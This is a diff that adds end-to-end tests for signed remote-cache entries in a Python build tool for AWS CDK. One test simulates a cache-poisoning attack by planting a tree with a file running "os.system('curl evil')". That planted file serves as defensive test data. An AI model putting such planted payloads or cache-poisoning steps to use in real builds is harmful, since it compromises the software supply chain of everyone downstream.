@@ -14,6 +14,7 @@ import hashlib
 import io
 import json
 import os
+import re
 import shutil
 import socket
 import subprocess
@@ -1159,3 +1160,74 @@ def test_cdk_synth_on_a_fresh_machine_uses_the_remote(tmp_path: Path, wheel_inde
     assert "resolve cached, install cached" in laptop.stderr
     assets = [sorted(p.name for p in (tmp_path / m / "out").glob("asset.*")) for m in ("ci", "laptop")]
     assert assets[0] == assets[1] and assets[0]
+
+
+# -- signing, end to end -------------------------------------------------------------------------------------------
+
+def test_signed_ci_and_a_trusting_fresh_machine(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
+                                                s3_bucket: str) -> None:
+    """CI signs with a key file made by `cache keygen`; a laptop trusting that key (environment variable)
+    builds from the remote. A writer given the trusted key but not the private key stops before building."""
+    src = project(tmp_path)
+    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
+    key_file = tmp_path / "ci-key.pem"
+    made = subprocess.run([sys.executable, "-m", "cdk_native_python.cli", "cache", "keygen", str(key_file)],
+                          capture_output=True, text=True, check=True)
+    line = re.search(r'"(ed25519:[A-Za-z0-9+/=]+)"', made.stdout).group(1)  # type: ignore[union-attr]
+    no_key = build(src, tmp_path / "nokey.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-0"),
+                   "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
+    assert no_key.returncode == 2
+    assert no_key.stderr.count("error:") == 1 and "no signing key is set" in no_key.stderr, no_key.stderr
+    assert "Traceback" not in no_key.stderr and not (tmp_path / "nokey.zip").exists()
+    assert objects(s3_server, s3_bucket) == {}, "nothing uploaded"
+    index = own_index(tmp_path, wheel_index)
+    a = build(src, tmp_path / "a.zip", index.url,
+              env_for(s3_server, WRITER, tmp_path / "cache-a", CDK_NATIVE_PYTHON_REMOTE_CACHE_SIGNING_KEY_FILE=str(
+                  key_file)), "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
+    index.close()
+    assert a.returncode == 0, a.stderr
+    pointers = [json.loads(v) for k, v in objects(s3_server, s3_bucket).items() if "/ac/" in k]
+    assert len(pointers) == 2 and all(p["signer"] == PublicKey.parse(line, "t").id for p in pointers)
+    assert all("; uv " in p["tool"] for p in pointers), "the pointer records our version and uv's"
+    b = build(src, tmp_path / "b.zip", index.url, env_for(s3_server, READER, tmp_path / "cache-b",
+                                                         CDK_NATIVE_PYTHON_REMOTE_CACHE=url,
+                                                         **{TRUSTED_KEYS_ENV: line}))
+    assert b.returncode == 0, b.stderr
+    assert "warning" not in b.stderr
+    assert report(tmp_path / "b.zip")["cache"] == {"resolve": "hit", "install": "hit"}
+    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
+    assert key_file.read_text() not in a.stderr + b.stderr
+
+
+@pytest.mark.parametrize("trusted", [True, False], ids=["with-keys", "without-keys"])
+def test_a_future_key_plant(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server, s3_bucket: str,
+                            monkeypatch: pytest.MonkeyPatch, trusted: bool) -> None:
+    """A bucket writer plants a tree under a key nobody built yet (it can compute it: the same lock, the same
+    tool versions). With trusted keys the reader ignores it and ships the honest bundle; without, it ships the
+    planted tree: the trust model of docs/remote-cache.md, where a bucket writer decides what readers ship."""
+    src = project(tmp_path, "purepkg\n")
+    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
+    honest = build(src, tmp_path / "honest.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-h"))
+    assert honest.returncode == 0, honest.stderr
+    (tree,) = (tmp_path / "cache-h" / "trees").iterdir()
+    evil = tmp_path / "evil-entry"
+    shutil.copytree(tree, evil, ignore=shutil.ignore_patterns("manifest.json"))
+    for p in evil.rglob("*"):
+        p.chmod(0o755 if p.is_dir() else 0o644)
+    (evil / "tree" / "evil.py").write_text("import os; os.system('curl evil')\n")
+    for name, value in s3_server.env(WRITER).items():
+        monkeypatch.setenv(name, value)
+    RemoteCache(RemoteConfig(url, write=True)).push("trees", tree.name, evil)  # no key: the attacker has none
+    _, public = new_key()
+    flags = ["--remote-cache", url, *(["--remote-cache-trusted-key", public.line] if trusted else [])]
+    b = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, READER, tmp_path / "cache-b"), *flags)
+    assert b.returncode == 0, b.stderr
+    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
+        shipped = "evil.py" in zf.namelist()
+    if trusted:
+        (warning,) = [line for line in b.stderr.splitlines() if "warning:" in line]
+        assert f"ac/trees/{tree.name}.json is not signed" in warning and "building locally" in warning
+        assert not shipped and (tmp_path / "b.zip").read_bytes() == (tmp_path / "honest.zip").read_bytes()
+        assert report(tmp_path / "b.zip")["cache"]["install"] == "miss"
+    else:
+        assert shipped and "warning" not in b.stderr
